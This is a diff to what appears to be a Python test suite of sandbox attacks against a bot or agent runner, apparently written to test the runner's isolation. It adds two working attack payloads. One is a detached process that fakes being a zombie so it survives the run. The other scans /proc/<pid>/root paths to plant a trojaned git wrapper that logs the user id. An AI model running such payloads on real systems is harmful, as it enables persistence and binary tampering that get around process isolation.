@@ -47,6 +47,16 @@ ALIVE = Weakness(
 )
 
 
+HEADLESS = Weakness(
+    "bot/agent/uids.py", '{"Z", "X"} and fields.get("Threads", "1").strip() in {"0", "1"}', '{"Z", "X"}'
+)
+KILLER = Weakness(
+    "bot/agent/killing.py",
+    "os.kill(-1, 9)",
+    "os.execv('/bin/sh', ('sh', '-c', 'sleep 0.2; kill -KILL -1'))",
+)
+"""The shell that used to do it, on a machine with much to do."""
+
 OURS = """
 def ours():  # the processes of the bot, of this run alone
     for path in glob.glob("/proc/[0-9]*/cmdline"):
@@ -212,6 +222,27 @@ if os.fork() == 0:
 """,
     ),
     Attack(
+        "R30 headless",
+        "leaves a process behind whose first thread has ended, which looks like a zombie",
+        _outlives_its_run,
+        (HEADLESS,),
+        """
+import ctypes, threading
+
+def go_on():
+    while send("alive", "1"):
+        time.sleep(0.1)
+
+if os.fork() == 0:
+    os.setsid()
+    null = os.open(os.devnull, os.O_RDWR)
+    for stream in (0, 1, 2):
+        os.dup2(null, stream)
+    threading.Thread(target=go_on).start()
+    ctypes.CDLL(None).pthread_exit(None)
+""",
+    ),
+    Attack(
         "R66 leftovers",
         "leaves a file in /tmp for the next run",
         _two_runs,
@@ -299,6 +330,31 @@ if os.fork() == 0:
 program = pathlib.Path(ROOT, "opt", "git")
 program.write_text(f'#!/bin/sh\nid -u >> {PWNED}/git\nexec /usr/bin/git "$@"\n')
 program.chmod(0o755)
+""",
+    ),
+    Attack(
+        "S02 killer",
+        "waits for who ends it, and writes through that one's view of the disk what its own does not let it",
+        mark_left("git"),
+        (KILLER,),
+        r"""
+if os.fork() == 0:
+    os.setsid()
+    null = os.open(os.devnull, os.O_RDWR)
+    for stream in (0, 1, 2):
+        os.dup2(null, stream)
+    end = time.monotonic() + 60
+    while time.monotonic() < end:
+        newest = int(look("/proc/loadavg").split()[4])
+        for pid in range(newest - 40, newest + 5):
+            program = f"/proc/{pid}/root{ROOT}/opt/git"
+            try:
+                with open(program, "x") as file:
+                    file.write(f'#!/bin/sh\nid -u >> {PWNED}/git\nexec /usr/bin/git "$@"\n')
+                os.chmod(program, 0o755)
+                os._exit(0)
+            except OSError:
+                pass
 """,
     ),
 )
